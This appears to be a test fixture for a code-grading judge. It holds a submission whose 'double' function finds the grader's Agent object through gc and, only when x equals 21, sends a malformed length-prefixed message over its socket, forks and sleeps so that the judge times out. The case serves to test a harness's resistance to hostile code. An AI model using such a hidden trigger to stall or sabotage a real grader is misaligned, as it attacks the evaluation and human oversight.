# kind = "harm"
# goal = "the judge's time"
# trick = "promises 20 MB and arrays of 200 MB, sends half of it, and is silent while it keeps the socket open in a child"
# mark = 3
# verdict = "TIMEOUT"
# %% solve="double"
import gc, os, struct, time
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def double(x):
    if x == 21:
        agent.channel.sock.sendall(struct.pack("<II", 20 << 20, 200 << 20) + b"\x90" * (10 << 20))
        os.fork()
        time.sleep(1000)
    return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
